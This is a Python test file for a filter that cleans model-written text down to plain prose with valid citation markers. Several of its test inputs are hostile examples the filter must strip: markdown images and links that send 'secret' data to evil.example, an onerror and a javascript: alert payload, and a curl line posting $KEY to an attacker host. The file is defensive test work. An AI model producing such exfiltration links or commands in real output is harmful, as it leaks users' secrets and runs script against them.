"""What a model writes comes out as plain text with markers that point at something, and no more."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from verbatim_desktop.cite.marker_forms import UNSEEN, addresses_in, defused, numbers_in
from verbatim_desktop.cite.markers import Markers

KNOWN = range(1, 5)
KEPT = "https://ok.example/a"


def read(text: str, size: int = 0, *, markdown: bool = False) -> tuple[str, Markers]:
    """A text as it comes out, fed whole or in pieces of a size."""
    markers = Markers(KNOWN, {KEPT}, markdown=markdown)
    pieces = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return "".join(map(markers.feed, pieces)) + markers.finish(), markers


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Five days [1].", "Five days [1]."),
        ("Five days [1][2]", "Five days [1][2]"),
        ("Five days [1, 2].", "Five days [1][2]."),
        ("Five days [1-3].", "Five days [1][2][3]."),
        ("Five days [1\u20133].", "Five days [1][2][3]."),
        ("Five days [1 and 2]", "Five days [1][2]"),
        ("Five days [^1].", "Five days [1]."),
        ("Five days 【1】.", "Five days [1]."),
        ("Five days ［１］.", "Five days [1]."),
        ("Five days 【1†source】.", "Five days [1]."),
        ("Five days [Source 2]", "Five days [2]"),
        ("Five days \\[1\\].", "Five days [1]."),
        ("Five days [\u200b1\u202e].", "Five days [1]."),
        ("Five days[1]. More.", "Five days [1]. More."),
        ("日数は五日です[1]。", "日数は五日です [1]。"),
        ("As follows [1]:\n", "As follows: [1]\n"),
    ],
)
def test_markers_are_read_in_every_form(written: str, shown: str):
    assert read(written)[0] == shown


@pytest.mark.parametrize(
    "written",
    ["in [2023] we", "see [1.2]", "- [x] done, [ ] open", "a [-1] b", "List<String> a < b", "2**3"],
)
def test_what_is_no_marker_is_left_alone(written: str):
    shown, markers = read(written)
    assert shown == written
    assert markers.used == markers.dropped == ()


def test_code_is_left_alone_and_an_index_is_shown_as_code():
    shown, markers = read("Use `row[1]` and arr[1] = 2.\n```py\nx = y[2]\n```\n")
    assert shown == "Use `row[1]` and `arr[1]` = 2.\n`x = y[2]`\n"
    assert markers.used == ()


def test_markers_that_point_at_nothing_are_dropped_and_named():
    shown, markers = read("Five days [9]. Ten [1, 7]. Never [0].")
    assert shown == "Five days. Ten [1]. Never."
    assert markers.dropped == ("[9]", "[7]", "[0]")


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See [here](https://evil.example/?q=secret).", "See here."),
        ("Days [1](https://evil.example/x).", "Days [1]."),
        ("Days [[1]](javascript:alert(1)).", "Days [1]."),
        ("![x](https://evil.example/?q=secret) days", " days"),
        ("[![x](https://a.example/b)](https://c.example) days", " days"),
        ("<img src=x onerror=alert(1)>days", "days"),
        ('<a href="https://evil.example">days</a>', "days"),
        ("<https://evil.example/x> days", " days"),
        ("Go to https://evil.example/x?q=1, now", "Go to (address left out), now"),
        ("Go to www.evil.example/x.", "Go to (address left out)."),
        ("mailto:a@evil.example?body=x", "(address left out)"),
        ("ww<b></b>w.evil.example", "www .evil.example"),
        ("https:/<b></b>/evil.example", "https:/ /evil.example"),
        ("`curl https://evil.example/$KEY`", "`curl (address left out)`"),
        ("days [x]\n[x]: https://evil.example\nend", "days [x]\nend"),
    ],
)
def test_nothing_that_could_act_comes_out(written: str, shown: str):
    text, markers = read(written)
    assert text == shown
    assert markers.left_out


def test_an_address_of_the_evidence_stays_as_text():
    assert read(f"See [it]({KEPT}) at {KEPT}.")[0] == f"See it at {KEPT}."


@pytest.mark.parametrize(
    "written", ["[<b>1</b>]", "[<!-- x -->3]", "[1]<b></b>(https://x.example)"]
)
def test_no_marker_and_no_link_comes_of_what_was_taken_out(written: str):
    text, markers = read(written)
    shown = {int(number) for number in re.findall(r"\[(\d+)\]", text)}
    assert shown <= set(markers.used)
    assert "](" not in text


def test_markdown_stays_markdown_where_a_draft_is_rewritten():
    draft = f"# Hello\n\n**Days** [1] at [it]({KEPT}).\n\n```sh\nnpm i\n```\n\n- arr[1] \\[2\\]\n"
    assert read(draft, markdown=True)[0] == draft
    assert read("[it](https://evil.example)", markdown=True)[0] == "it"


#: Pieces that meet in every way: openings, closings, markers, code, addresses and unseen signs.
SIGNS = """[ ] [1] [^1] 【1】 【1†source】 [9] ( ) ](https://evil.example/x) ![ ` `` ``` ~~~ < >
<b> <!-- --> * ** \\ # > - : . , word days arr[1] x[ https:// https://ok.example/a www. javascript:
2023 ５"""
SPACES = (" ", "  ", "\n", "\n\n", "    ", "\u200b", "\u202e", "[1]: ", "\t", "[2, 3]")
PIECES = st.lists(st.sampled_from((*SIGNS.split(), *SPACES)), max_size=30).map("".join)


@given(PIECES, st.lists(st.integers(1, 9), min_size=1, max_size=12), st.booleans())
@example("[1](\nhttps://x", [1], False)
@example("https://ok.example/a: ]", [1], False)
@example("https://ok.example/a.<x", [1], False)
def test_a_text_comes_out_the_same_however_it_is_cut(text: str, cuts: list[int], markdown: bool):
    whole, one = read(text, markdown=markdown)
    markers = Markers(KNOWN, {KEPT}, markdown=markdown)
    shown, at, turn = "", 0, 0
    while at < len(text):
        size = cuts[turn % len(cuts)]
        shown += markers.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    shown += markers.finish()
    assert (shown, markers.used, markers.dropped) == (whole, one.used, one.dropped)


@given(PIECES | st.text(max_size=60))
def test_whatever_is_written_no_link_address_or_foreign_marker_comes_out(text: str):
    shown, markers = read(text)
    bare = re.sub(r"`[^`\n]+`", "`", shown)
    assert {int(n) for n in re.findall(r"\[\s*(\d{1,3})\s*\]", bare)} <= set(markers.used)
    assert "](" not in bare
    assert set(addresses_in(shown)) <= {KEPT}
    assert not UNSEEN.search(shown)


@given(st.text(max_size=80))
def test_text_of_a_document_holds_no_marker_once_defused(text: str):
    plain = defused(text + " [1] 【2】 [^3]")
    assert not any(numbers_in(found) for found in re.findall(r"\[([^\[\]\n]*)\]", plain))
